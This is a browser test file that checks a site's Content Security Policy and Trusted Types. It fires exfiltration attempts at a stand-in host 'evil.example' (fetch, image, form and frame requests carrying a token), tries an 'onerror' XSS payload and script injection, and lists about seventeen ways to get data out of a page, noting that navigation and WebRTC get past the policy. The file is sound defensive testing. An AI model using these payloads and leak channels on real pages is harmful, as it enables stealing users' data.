import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from './page';

// Attacks that the policy stops although their code runs on the page (docs/adr/0072).

const FOREIGN = 'https://evil.example';

/** The directive that stops each way out of the page. */
const STOPPED = {
  'img-src': "new Image().src = 'https://evil.example/a.png?token'",
  'connect-src': "fetch('https://evil.example/?token').catch(() => {})",
  'font-src': "new FontFace('x', 'url(https://evil.example/a.woff2)').load().catch(() => {})",
  'form-action':
    "document.body.append(Object.assign(document.createElement('form'), { action: 'https://evil.example/' })); document.forms[document.forms.length - 1].submit()",
  'frame-src':
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
};

/** Attempts that throw at once. */
const REFUSED = {
  markup: "document.body.innerHTML += '<img src=x onerror=alert(1)>'",
  'a script of another origin': "document.createElement('script').src = 'https://evil.example/a.js'",
  'a script of a picture folder': "document.createElement('script').src = '/media/x.js'",
  'a script as text':
    "document.head.append(Object.assign(document.createElement('script'), { text: 'ran = true' }))",
  'a second policy': "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
};

test('the policy stops foreign code and ways out of the page', async ({ visitor, pageErrors }) => {
  pageErrors.expect(/Content Security Policy|content security policy|Trusted|Refused|evil\.example/i);
  const { page } = visitor;
  const asked: string[] = [];
  await page.route(`${FOREIGN}/**`, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  await visitor.isGuest();
  await visitor.opens('/home');
  for (const [directive, attempt] of Object.entries(STOPPED))
    expect(await stoppedBy(page, attempt), directive).toBe(directive);
  for (const [name, attempt] of Object.entries(REFUSED))
    await expect(page.evaluate(attempt), name).rejects.toThrow();
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  expect(asked).toEqual([]);
});

/** The directive of the violation that an attempt causes. */
async function stoppedBy(page: Page, attempt: string): Promise<string> {
  return page.evaluate(`new Promise((resolve) => {
    const seen = ({ effectiveDirective }) => resolve(effectiveDirective);
    document.addEventListener('securitypolicyviolation', seen, { once: true });
    ${attempt};
  })`);
}

/** Adds an element to the page. @param fields its properties, as code */
const adds = (tag: string, fields: string) =>
  `document.body.append(Object.assign(document.createElement('${tag}'), { ${fields} }))`;

/** Ways by which code on the page can try to reach another server, and what arrives there. */
const WAYS: [
  way: string,
  attempt: (address: string) => string,
  arrives: 'nothing' | 'perhaps a connection' | 'connection' | 'request',
][] = [
  ['a picture', (to) => `new Image().src = '${to}'`, 'nothing'],
  ['a background', (to) => `document.body.style.backgroundImage = 'url(${to})'`, 'nothing'],
  ['a video', (to) => adds('video', `src: '${to}'`), 'nothing'],
  ['fetch', (to) => `fetch('${to}').catch(() => {})`, 'nothing'],
  ['a beacon', (to) => `navigator.sendBeacon('${to}', 'token')`, 'nothing'],
  ['a web socket', (to) => `new WebSocket('${to.replace('http', 'ws')}')`, 'nothing'],
  ['events of a server', (to) => `new EventSource('${to}')`, 'nothing'],
  ['a preconnect', (to) => adds('link', `rel: 'preconnect', href: '${to}'`), 'nothing'],
  ['a prefetch', (to) => adds('link', `rel: 'prefetch', href: '${to}'`), 'nothing'],
  ['a preload', (to) => adds('link', `rel: 'preload', as: 'image', href: '${to}'`), 'nothing'],
  ['an icon', (to) => adds('link', `rel: 'icon', href: '${to}'`), 'nothing'],
  ['a ping', (to) => `${adds('a', `href: '#', ping: '${to}', id: 'ping'`)}; ping.click()`, 'nothing'],
  // A Chromium with windows connects before it looks at the policy, its headless shell does not.
  ['a form', (to) => `${adds('form', `action: '${to}', id: 'out'`)}; out.submit()`, 'perhaps a connection'],
  ['a frame', (to) => adds('iframe', `src: '${to}'`), 'perhaps a connection'],
  [
    'WebRTC',
    (to) => `(async () => {
      const urls = 'turn:${new URL(to).host}?transport=tcp';
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'token', credential: 'x' }] });
      peer.createDataChannel('out');
      await peer.setLocalDescription(await peer.createOffer());
    })()`,
    'connection',
  ],
  ['a window', (to) => `void window.open('${to}')`, 'request'],
  ['a navigation', (to) => `location.href = '${to}'`, 'request'],
];

test('data can leave the page by navigation and WebRTC only', { tag: '@full' }, async ({
  another,
  pageErrors,
}) => {
  test.setTimeout(120_000);
  pageErrors.expect(/./);
  const arrived: string[] = [];
  const server = createServer((_request, response) => {
    arrived.push('request');
    response.end('out');
  }).on('connection', () => arrived.push('connection'));
  const address = await addressOf(server);
  let signs = 0;
  const sign = createServer((_request, response) => {
    signs++;
    response.end('later');
  });
  const later = await addressOf(sign);
  for (const [way, attempt, arrives] of WAYS) {
    const { page } = await another();
    await page.goto('/welcome');
    arrived.length = 0;
    await page.evaluate(attempt(address)).catch(() => {});
    if (arrives === 'request' || arrives === 'connection')
      await expect.soft.poll(() => arrived, way).toContain(arrives);
    else {
      // A window that opens later has reached its server by then.
      const before = signs;
      await page.evaluate((to) => void window.open(to), later);
      await expect.poll(() => signs).toBeGreaterThan(before);
    }
    const most = ['request', 'connection'].find((one) => arrived.includes(one)) ?? 'nothing';
    const allowed = arrives === 'perhaps a connection' ? ['nothing', 'connection'] : [arrives];
    expect.soft(allowed, way).toContain(most);
    await page.context().close();
  }
  server.close();
  sign.close();
});

/** Starts a server and returns its URL, with a token to keep secret. */
async function addressOf(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/?token`;
}
